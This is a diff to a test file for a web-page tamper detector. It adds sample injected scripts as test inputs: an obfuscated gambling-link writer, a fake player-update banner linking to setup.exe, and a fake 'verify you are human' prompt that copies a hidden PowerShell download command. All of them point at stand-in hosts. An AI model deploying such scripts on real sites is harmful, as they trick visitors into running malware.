@@ -29,6 +29,19 @@ def test_a_script_that_writes_foreign_links_with_words_of_a_trade(code):
 @pytest.mark.parametrize(
     "code",
     [
+        r"var t='\u767e\u5bb6\u4e50';d.innerHTML='<a href=\'http\x73:\x2f\x2fplay.foreign.example\x2f\'>'+t+'</a>'",
+        "document.write('<title>百家乐</title><scr'+'ipt src=\"//pl'+'ay.foreign'+'.example/x.js\"></scr'+'ipt>')",
+    ],
+)
+def test_what_a_script_puts_together_is_read_as_it_will_be_written(code):
+    assert [(sign, leads_to[0].partition("//")[2]) for sign, leads_to, _ in signs(code)] == [
+        (TamperSign.SCRIPT_WRITES, "play.foreign.example")
+    ]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
         WRITTEN.replace("play.foreign.example", "news.school.example"),  # own links
         WRITTEN.replace(r"\u767e\u5bb6\u4e50", "Partners"),
         WRITTEN.replace("<a href", "<img src"),  # a counter
@@ -46,3 +59,43 @@ def test_links_to_a_well_known_service_are_none():
 def test_pages_whose_scripts_cannot_write_are_told_by_their_marks():
     assert writes(find_marks(WRITTEN.lower().encode()))
     assert not writes(find_marks(b"window.state={}"))
+
+
+UPDATE = (
+    "var m=document.createElement('div');m.innerHTML='<b>您的播放器版本过低</b>"
+    '<a href="https://dl.foreign.example/setup.exe">立即升级</a>\';document.body.appendChild(m)'
+)
+PROOF = (
+    "d.body.insertAdjacentHTML('beforeend','<p>Verify you are human: press Windows + R</p>');"
+    "t.value='powershell -w hidden https://cdn.foreign.example/v';t.select();d.execCommand('copy')"
+)
+
+
+@pytest.mark.parametrize(("code", "word"), [(UPDATE, "版本过低"), (PROOF, "Verify you are human")])
+def test_a_script_that_makes_visitors_run_something_under_a_pretence_is_a_sign(code, word):
+    (found,) = examine_written([OwnText(code, "html > script")], URL, lambda _: False, lambda _: None)
+    assert found.sign is TamperSign.SCRIPT_WRITES
+    assert word in found.snippet
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        UPDATE.replace("dl.foreign.example", "dl.school.example"),
+        UPDATE.replace("版本过低", "下载").replace("立即升级", "安装包"),
+        UPDATE.replace("setup.exe", "news"),
+        PROOF.replace("Verify you are human", "Install it"),
+        PROOF.replace("d.execCommand('copy')", ""),
+    ],
+)
+def test_installers_updates_of_the_site_and_commands_to_copy_are_none(code):
+    assert signs(code) == []
+
+
+def test_properties_in_brackets_are_read():
+    code = "document['write'](String['fromCharCode'](" + ",".join(str(ord(c)) for c in MARKUP) + "))"
+    assert [sign for sign, _, _ in signs(code)] == [TamperSign.SCRIPT_WRITES]
+    assert writes(find_marks(code.lower().encode()))
+
+
+MARKUP = '<a href="http://play.foreign.example/">百家乐</a>'
